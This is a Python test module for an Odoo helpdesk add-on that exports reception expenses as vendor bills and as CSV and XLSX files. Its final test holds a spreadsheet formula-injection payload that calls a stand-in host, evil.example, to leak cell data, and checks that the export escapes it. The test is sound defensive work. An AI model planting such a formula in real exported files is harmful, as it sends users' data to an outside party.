import base64
import csv
import io

import openpyxl

from odoo.exceptions import AccessError, UserError
from odoo.tests import Form

from .common_reception import ReceptionCase


class TestReceptionExport(ReceptionCase):
    """The accountant turns approved expenses into vendor bills, one per
    expense, or into a CSV or XLSX file of the same lines."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.receipt = base64.b64encode(b"%PDF-1.4 receipt of the tea shop")
        cls.tea_expense = cls.expense(
            cls.tea,
            45.5,
            "2025-03-03",
            receipt=cls.receipt,
            receipt_filename="receipt-0303.pdf",
        )
        cls.visit_expense = cls.expense(
            cls.visit, 120, "2025-03-05", attendees=3, **cls.oral()
        )
        (cls.tea_expense | cls.visit_expense).action_confirm()
        cls.draft_expense = cls.expense(cls.tea, 10, "2025-03-06")
        # recorded by the CS agent, looked at here as the administrator
        for name in ("tea_expense", "visit_expense", "draft_expense"):
            setattr(cls, name, getattr(cls, name).with_env(cls.env))

    def wizard(self, user=None, **vals):
        Wizard = self.env["helpdesk.reception.export"].with_user(
            user or self.accountant
        )
        values = {"company_id": self.company.id, "journal_id": self.journal.id}
        values.update(vals)
        return Wizard.create(values)

    def export(self, expenses, user=None):
        return self.wizard(
            user=user, expense_ids=[(6, 0, expenses.ids)]
        ).action_create_moves()

    def test_one_vendor_bill_per_expense(self):
        action = self.export(self.tea_expense | self.visit_expense | self.draft_expense)
        moves = self.env["account.move"].search(action["domain"])
        self.assertEqual(len(moves), 2, "the draft expense is not exported")
        self.assertEqual(self.tea_expense.state, "exported")
        move = self.tea_expense.move_id
        self.assertIn(move, moves)
        self.assertRecordValues(
            move,
            [
                {
                    "move_type": "in_invoice",
                    "partner_id": self.supplier.id,
                    "journal_id": self.journal.id,
                    "ref": self.tea_expense.name,
                    "amount_total": 45.5,
                    "state": "draft",
                }
            ],
        )
        self.assertEqual(str(move.invoice_date), "2025-03-03")
        [line] = move.invoice_line_ids
        self.assertEqual(line.account_id, self.expense_account)
        self.assertFalse(line.tax_ids)
        self.assertEqual(line.analytic_distribution, {str(self.project.id): 100})
        self.assertEqual(move.reception_expense_ids, self.tea_expense)
        attachment = self.env["ir.attachment"].search(
            [("res_model", "=", "account.move"), ("res_id", "=", move.id)]
        )
        self.assertEqual(attachment.name, "receipt-0303.pdf")
        self.assertEqual(attachment.raw, b"%PDF-1.4 receipt of the tea shop")
        self.assertEqual(self.draft_expense.state, "draft")

    def test_posted_bill_books_the_expense_account_and_the_project(self):
        self.export(self.tea_expense)
        move = self.tea_expense.move_id
        move.action_post()
        expense_line = move.line_ids.filtered(
            lambda line: line.account_id == self.expense_account
        )
        self.assertEqual(expense_line.debit, 45.5)
        self.assertEqual(expense_line.analytic_line_ids.account_id, self.project)
        self.assertEqual(
            move.line_ids.filtered(
                lambda line: line.account_id == self.payable_account
            ).credit,
            45.5,
        )

    def test_exporting_again_creates_nothing_twice(self):
        self.export(self.tea_expense)
        move = self.tea_expense.move_id
        count = self.env["account.move"].search_count([])
        with self.assertRaisesRegex(UserError, "Nothing to export"):
            self.export(self.tea_expense)
        # a period export takes only what is left
        action = self.wizard(
            date_from="2025-03-01", date_to="2025-03-31"
        ).action_create_moves()
        self.assertEqual(
            self.env["account.move"].search(action["domain"]),
            self.visit_expense.move_id,
        )
        self.assertEqual(self.env["account.move"].search_count([]), count + 1)
        self.assertEqual(self.tea_expense.move_id, move)

    def test_cancelling_the_bill_returns_the_expense_to_approved(self):
        self.export(self.tea_expense)
        move = self.tea_expense.move_id
        move.action_post()
        move.with_user(self.accountant).button_cancel()
        self.assertRecordValues(
            self.tea_expense, [{"state": "approved", "move_id": False}]
        )
        self.assertIn("was cancelled", str(self.tea_expense.message_ids[:1].body))
        self.export(self.tea_expense)
        self.assertNotEqual(self.tea_expense.move_id, move)
        self.assertEqual(self.tea_expense.state, "exported")

    def test_deleting_the_bill_returns_the_expense_to_approved(self):
        self.export(self.tea_expense)
        self.tea_expense.move_id.with_user(self.accountant).unlink()
        self.assertRecordValues(
            self.tea_expense, [{"state": "approved", "move_id": False}]
        )

    def test_reversing_the_bill_in_full_returns_the_expense_to_approved(self):
        self.export(self.visit_expense)
        move = self.visit_expense.move_id
        move.action_post()
        reversal = move._reverse_moves(
            [{"invoice_date": move.invoice_date}], cancel=True
        )
        self.assertEqual(reversal.state, "posted")
        self.assertEqual(self.visit_expense.state, "approved")

    def test_an_exported_expense_is_cancelled_through_its_bill(self):
        self.export(self.tea_expense)
        with self.assertRaisesRegex(UserError, "cancel or delete its vendor bill"):
            self.tea_expense.action_cancel()
        with self.assertRaisesRegex(UserError, "Supplier no longer change"):
            self.tea_expense.with_user(self.agent).supplier_id = self.env[
                "res.partner"
            ].create({"name": "X"})

    def test_missing_supplier_or_account_refuses_everything(self):
        self.visit_expense.with_user(self.agent).supplier_id = False
        self.tea.account_id = False
        with self.assertRaises(UserError) as caught:
            self.export(self.tea_expense | self.visit_expense)
        message = str(caught.exception)
        self.assertIn(f"{self.visit_expense.name} has no supplier", message)
        self.assertIn("has no expense account", message)
        self.assertEqual(
            (self.tea_expense | self.visit_expense).mapped("state"),
            ["approved", "approved"],
        )
        self.assertFalse(
            self.env["account.move"].search(
                [("ref", "in", [self.tea_expense.name, self.visit_expense.name])]
            )
        )

    def test_only_an_accountant_exports(self):
        for user in (self.agent, self.manager, self.leader, self.handler):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                self.wizard(user=user).action_create_moves()
        wizard = self.wizard(expense_ids=[(6, 0, self.tea_expense.ids)])
        with self.assertRaises(AccessError):
            wizard.with_user(self.agent).action_create_moves()
        self.assertEqual(self.tea_expense.state, "approved")

    def test_the_wizard_takes_the_selected_expenses(self):
        context = {
            "active_model": self.Expense._name,
            "active_ids": self.tea_expense.ids,
        }
        with Form(
            self.env["helpdesk.reception.export"]
            .with_user(self.accountant)
            .with_context(**context)
        ) as form:
            self.assertEqual(form.journal_id.type, "purchase")
            form.journal_id = self.journal
        form.record.action_create_moves()
        self.assertEqual(self.tea_expense.state, "exported")
        self.assertEqual(self.visit_expense.state, "approved")

    def download(self, wizard, method):
        action = getattr(wizard, method)()
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment_id = int(action["url"].split("/web/content/")[1].split("?")[0])
        return self.env["ir.attachment"].browse(attachment_id)

    def test_csv_lists_the_lines_of_the_bills(self):
        self.export(self.tea_expense)
        attachment = self.download(
            self.wizard(date_from="2025-03-01", date_to="2025-03-31"),
            "action_export_csv",
        )
        self.assertEqual(
            attachment.name, "reception-expenses-2025-03-01-2025-03-31.csv"
        )
        text = attachment.raw.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        self.assertEqual(
            [row["Reference"] for row in rows],
            [self.tea_expense.name, self.visit_expense.name],
        )
        first = rows[0]
        self.assertEqual(first["Date"], "2025-03-03")
        self.assertEqual(first["Account Code"], "HPI6602")
        self.assertEqual(first["Property Project"], "Sunshine Garden")
        self.assertEqual(first["Supplier"], "Heping Tea Shop")
        self.assertEqual(first["Amount"], "45.50")
        self.assertEqual(first["Vendor Bill"], self.tea_expense.move_id.display_name)
        self.assertEqual(rows[1]["Status"], "Approved")
        # the file changes nothing
        self.assertEqual(self.visit_expense.state, "approved")

    def test_xlsx_lists_the_same_lines(self):
        wizard = self.wizard(
            expense_ids=[
                (6, 0, (self.tea_expense | self.visit_expense | self.draft_expense).ids)
            ]
        )
        attachment = self.download(wizard, "action_export_xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(attachment.raw)).active
        rows = list(sheet.iter_rows(values_only=True))
        header = rows[0]
        self.assertEqual(header[0], "Reference")
        self.assertEqual(len(rows), 3, "the draft expense is not listed")
        tea = dict(zip(header, rows[1], strict=True))
        self.assertEqual(tea["Reference"], self.tea_expense.name)
        self.assertEqual(tea["Amount"], 45.5)
        self.assertEqual(tea["Date"].date().isoformat(), "2025-03-03")
        self.assertEqual(tea["Expense Account"], "Reception Expenses")
        visit = dict(zip(header, rows[2], strict=True))
        self.assertEqual(visit["Attendees"], 3)

    def test_files_in_chinese(self):
        self.env["res.lang"]._activate_lang("zh_CN")
        self.env["ir.module.module"].search(
            [("name", "=", "helpdesk_property_info")]
        )._update_translations("zh_CN")
        wizard = self.wizard(date_from="2025-03-01").with_context(lang="zh_CN")
        attachment = self.download(wizard, "action_export_csv")
        header = next(csv.reader(io.StringIO(attachment.raw.decode("utf-8-sig"))))
        self.assertIn("金额", header)

    def test_another_company_exports_only_its_own(self):
        other = self.env["res.company"].create({"name": "Second Property Co."})
        self.accountant.company_ids = [(4, other.id)]
        policy = self.env["helpdesk.reception.policy"].search(
            [("company_id", "=", other.id), ("code", "=", "tea")]
        )
        self.assertTrue(policy, "a new company gets the standard's policies")
        foreign = self.Expense.with_company(other).create(
            {
                "policy_id": policy.id,
                "amount": 20,
                "date": "2025-03-03",
                "purpose": "Tea",
                "company_id": other.id,
            }
        )
        foreign.action_confirm()
        with self.assertRaisesRegex(UserError, "another company"):
            self.wizard(
                expense_ids=[(6, 0, (foreign | self.tea_expense).ids)]
            ).action_create_moves()
        rows = self.wizard(date_from="2025-03-01")._expenses(("approved",))
        self.assertNotIn(foreign, rows)

    def test_a_formula_in_a_text_stays_text(self):
        purpose = '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")'
        expense = self.expense(self.tea, 5, "2025-03-07", purpose=purpose)
        expense.action_confirm()
        wizard = self.wizard(expense_ids=[(6, 0, expense.ids)])
        text = self.download(wizard, "action_export_csv").raw.decode("utf-8-sig")
        [row] = csv.DictReader(io.StringIO(text))
        self.assertEqual(row["Purpose"], "'" + purpose)
        sheet = openpyxl.load_workbook(
            io.BytesIO(self.download(wizard, "action_export_xlsx").raw)
        ).active
        header = [cell.value for cell in sheet[1]]
        cell = sheet.cell(row=2, column=header.index("Purpose") + 1)
        self.assertEqual((cell.value, cell.data_type), (purpose, "s"))
